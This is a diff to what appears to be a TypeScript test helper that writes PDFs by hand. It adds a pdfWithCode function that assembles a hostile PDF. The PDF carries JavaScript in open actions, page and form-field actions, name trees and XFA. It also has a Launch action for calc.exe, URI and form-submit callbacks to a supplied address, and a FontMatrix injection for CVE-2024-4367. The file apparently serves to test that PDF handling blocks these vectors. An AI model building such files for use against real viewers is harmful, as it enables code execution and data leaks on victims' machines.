@@ -6,13 +6,18 @@ export type Words = readonly [
   traits?: { size?: number; turned?: boolean },
 ];
 
-/** A PDF of these pages, written by hand. */
-export function pdfOf(pages: readonly (readonly Words[])[], info = '', pageExtra = ''): Uint8Array {
+/** A PDF of these pages, written by hand. `more` goes into the dictionaries of the catalogue and the font. */
+export function pdfOf(
+  pages: readonly (readonly Words[])[],
+  info = '',
+  pageExtra = '',
+  more: { readonly catalogue?: string; readonly font?: string } = {},
+): Uint8Array {
   const contents = pages.map((words) => words.map(shown).join('\n'));
   const objects = [
-    '<< /Type /Catalog /Pages 2 0 R >>',
+    `<< /Type /Catalog /Pages 2 0 R ${more.catalogue ?? ''} >>`,
     `<< /Type /Pages /Count ${pages.length} /Kids [${pages.map((_, index) => `${5 + 2 * index} 0 R`).join(' ')}] >>`,
-    '<< /Type /Font /Subtype /Type1 /BaseFont /Courier /Encoding /WinAnsiEncoding >>',
+    `<< /Type /Font /Subtype /Type1 /BaseFont /Courier /Encoding /WinAnsiEncoding ${more.font ?? ''} >>`,
     `<< ${info} >>`,
     ...contents.flatMap((content, index) => [
       `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Resources << /Font << /F 3 0 R >> >> /Contents ${6 + 2 * index} 0 R ${pageExtra} >>`,
@@ -36,4 +41,26 @@ export function pdfOf(pages: readonly (readonly Words[])[], info = '', pageExtra
 function shown([text, left, baseline, { size = 12, turned = false } = {}]: Words): string {
   const matrix = turned ? '0 1 -1 0' : '1 0 0 1';
   return `BT /F ${size} Tf ${matrix} ${left} ${baseline} Tm (${text.replace(/[()\\]/g, '\\$&')}) Tj ET`;
+}
+
+/** A PDF that runs `code`, and asks `address` for something, in every way that one can, and says `words`. */
+export function pdfWithCode(words: string, code: string, address: string): Uint8Array {
+  const escaped = code.replace(/[()\\]/g, '\\$&');
+  const script = `<< /S /JavaScript /JS (${escaped}) >>`;
+  const catalogue = [
+    `/OpenAction ${script}`,
+    `/AA << /WC ${script} /WS ${script} >>`,
+    `/Names << /JavaScript << /Names [(x) ${script}] >> >>`,
+    `/AcroForm << /Fields [] /XFA [(template) (<template><script>${escaped}</script></template>)] >>`,
+    `/URI << /Base (${address}/base) >>`,
+  ];
+  const page = [
+    `/AA << /O ${script} /C << /S /Launch /F (calc.exe) >> >>`,
+    `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI (${address}/pdf-uri) >> >>`,
+    `<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /SubmitForm /F (${address}/pdf-submit) >> >>`,
+    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (x) /Rect [0 0 9 9] /AA << /F ${script} /K ${script} >> >>]`,
+  ];
+  // CVE-2024-4367: the matrix of a font went unchecked into code that was compiled.
+  const font = `/FontMatrix [0.001 0 0 0.001 0 (0\\); ${escaped}; //)] /Function << /FunctionType 4 /Domain [0 1] /Range [0 1] /Length 9 >>`;
+  return pdfOf([[[words, 72, 700]]], '', page.join(' '), { catalogue: catalogue.join(' '), font });
 }
